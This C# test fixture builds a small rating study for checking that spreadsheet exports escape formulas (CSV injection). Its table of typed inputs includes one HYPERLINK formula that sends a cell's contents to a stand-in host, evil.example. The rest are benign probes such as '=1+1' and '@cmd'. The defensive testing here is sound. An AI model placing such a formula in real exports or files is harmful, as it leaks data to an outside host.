using System.Text;

namespace GradeBench.Testing;

/// <summary>A tiny study whose rater typed spreadsheet formulas (OWASP "CSV Injection") into comments and into a
/// free-text criterion, next to negative numbers on a numeric criterion, for the Excel flavour of the CSV exports
/// (docs/exports.md). Shared by the storage, command-line and web tests, so all three check the same cells.</summary>
public static class FormulaStudy
{
    public const string Id = "formulas";

    /// <summary>What the rater typed, and the cell the Excel flavour must write for it: an apostrophe before a text that
    /// starts with <c>= + - @</c>, tab or carriage return, nothing added to a number or to any other text.</summary>
    public static readonly IReadOnlyList<(string Typed, string ForExcel)> Texts =
    [
        ("=1+1", "'=1+1"),
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-1", "-1"),
        ("-0.5", "-0.5"),
        ("+4", "+4"),
        ("2 + 2 = 4, -1 @ noon", "2 + 2 = 4, -1 @ noon"),
        ("Clear, but omits the imaging step", "Clear, but omits the imaging step"),
        ("溶栓时间窗 =4.5 h", "溶栓时间窗 =4.5 h"),
    ];

    /// <summary>The values of the numeric criterion, one per response in turn: they stay numbers in every flavour.</summary>
    public static readonly IReadOnlyList<string> Numbers = ["-1", "-0.5", "3"];

    /// <summary>The cell the Excel flavour writes for a plain cell: the typed texts change as listed and so does the
    /// criterion id <c>-A1</c>; any other cell (ids, numbers, timestamps) stays as it is.</summary>
    public static string ForExcel(string plain) =>
        plain == "-A1" ? "'-A1" : Texts.FirstOrDefault(t => t.Typed == plain) is { Typed: not null } t ? t.ForExcel : plain;

    /// <summary>Writes the bundle into <paramref name="folder"/>: one case, one response per typed text, all rated by
    /// <c>ann</c>; response <c>i</c> gets <see cref="Numbers"/>[i % 3] on <c>dose_error</c> with text i as its comment,
    /// and text i as the value of the free-text criterion <c>note</c>; response 0 also gets <c>true</c> on the criterion
    /// <c>-A1</c>, an identifier (<c>[A-Za-z0-9._-]</c>) that a spreadsheet would read as minus cell A1.</summary>
    public static string Write(string folder)
    {
        Directory.CreateDirectory(folder);
        File.WriteAllText(Path.Combine(folder, "study.json"), $$$"""
            {"format": "gradebench-study/1", "id": "{{{Id}}}", "title": "Formulas in free text", "raters_per_response": 1,
             "rubric": {"criteria": [
                {"id": "dose_error", "label": "Dose error (mg)", "type": "numeric", "min": -10, "max": 10, "required": true},
                {"id": "note", "label": "Note", "type": "text"},
                {"id": "-A1", "label": "An id that reads as a cell reference", "type": "binary"}]}}
            """);
        File.WriteAllText(Path.Combine(folder, "cases.jsonl"),
            """{"id": "c1", "title": "Case 1", "presentation_md": "P", "question_md": "Q"}""" + "\n");
        var responses = new StringBuilder();
        var ratings = new StringBuilder("response_id,rater,criterion,value,comment\n");
        for (var i = 0; i < Texts.Count; i++)
        {
            responses.Append($$"""{"id": "c1.r{{i:D2}}", "case_id": "c1", "model": "m1", "content_md": "Answer {{i}}."}""").Append('\n');
            ratings.Append($"c1.r{i:D2},ann,dose_error,{Numbers[i % Numbers.Count]},{Quoted(Texts[i].Typed)}\n");
            ratings.Append($"c1.r{i:D2},ann,note,{Quoted(Texts[i].Typed)},\n");
            if (i == 0) ratings.Append("c1.r00,ann,-A1,true,\n");
        }
        File.WriteAllText(Path.Combine(folder, "responses.jsonl"), responses.ToString());
        File.WriteAllText(Path.Combine(folder, "ratings.csv"), ratings.ToString());
        return folder;
    }

    static string Quoted(string text) => "\"" + text.Replace("\"", "\"\"") + "\"";
}
